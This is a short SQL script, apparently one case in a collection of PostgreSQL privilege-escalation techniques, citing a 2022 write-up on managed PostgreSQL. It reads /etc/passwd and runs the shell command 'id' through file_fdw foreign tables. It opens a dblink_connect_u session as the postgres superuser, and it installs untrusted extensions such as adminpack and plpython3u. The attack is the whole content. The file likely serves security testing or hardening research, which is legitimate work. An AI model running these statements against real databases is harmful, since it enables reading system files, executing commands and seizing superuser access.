-- way: create an untrusted extension that opens files or connections
-- source: write-up: managed PostgreSQL, file_fdw and log_fdw of a customer (2022)
-- control: superuser
-- section: application
SET ROLE NONE;
CREATE EXTENSION file_fdw SCHEMA shop;
CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE shop.passwd (line text) SERVER files OPTIONS (filename '/etc/passwd');
CREATE FOREIGN TABLE shop.program (line text) SERVER files OPTIONS (program 'id > /tmp/climb_fdw_program');
SELECT count(*) FROM shop.passwd;
SELECT count(*) FROM shop.program;
CREATE EXTENSION dblink SCHEMA shop;
SELECT shop.dblink_connect_u('user=postgres dbname=postgres');
CREATE EXTENSION adminpack;
CREATE EXTENSION pageinspect;
CREATE EXTENSION plpython3u;
